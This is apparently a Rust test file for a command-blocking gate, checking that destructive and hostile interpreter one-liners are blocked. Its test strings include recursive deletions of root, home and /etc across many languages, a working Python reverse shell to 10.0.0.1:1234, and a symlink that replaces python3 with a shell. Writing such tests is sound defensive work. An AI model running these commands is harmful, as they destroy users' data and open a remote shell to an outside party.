//! Interpreter one-liners: process, deletion, write, network and fork calls.

#[path = "gate_common/mod.rs"]
mod common;
use common::*;

#[test]
fn dangerous_one_liners_are_blocked() {
    check(&[
        (Block, r#"sed '1e rm -rf /' x"#),
        (Block, r#"awk 'BEGIN{system("rm -rf ~")}'"#),
        (Block, r#"python3 -c 'import os; os.system("rm -rf ~")'"#),
        (
            Block,
            r#"python3 -c "import subprocess; subprocess.run(['rm','-rf','/'])""#,
        ),
        (Block, r#"python -c "__import__('shutil').rmtree('/etc')""#),
        (
            Block,
            r#"python3 -c "import os; os.remove(os.path.expanduser('~/.bashrc'))""#,
        ),
        (Block, r#"perl -e 'system("rm -rf /")'"#),
        (Block, r#"perl -e '`rm -rf ~`'"#),
        (Block, r#"perl -MFile::Path -e 'rmtree("/home/dev")'"#),
        (Block, r#"ruby -e 'system("rm -rf ~")'"#),
        (Block, r#"ruby -e '`rm -rf /`'"#),
        (Block, r#"ruby -rfileutils -e 'FileUtils.rm_rf("/")'"#),
        (
            Block,
            r#"node -e "require('child_process').execSync('rm -rf ~')""#,
        ),
        (
            Block,
            r#"node -e "require('fs').rmSync(require('os').homedir(), {recursive:true})""#,
        ),
        (Block, r#"php -r 'system("rm -rf /");'"#),
        (Block, r#"lua -e 'os.execute("rm -rf /")'"#),
        (
            Block,
            r#"python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",1234));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'"#,
        ),
        (Block, r#"sudo ln -sf /bin/sh /usr/bin/python3"#),
    ]);
}
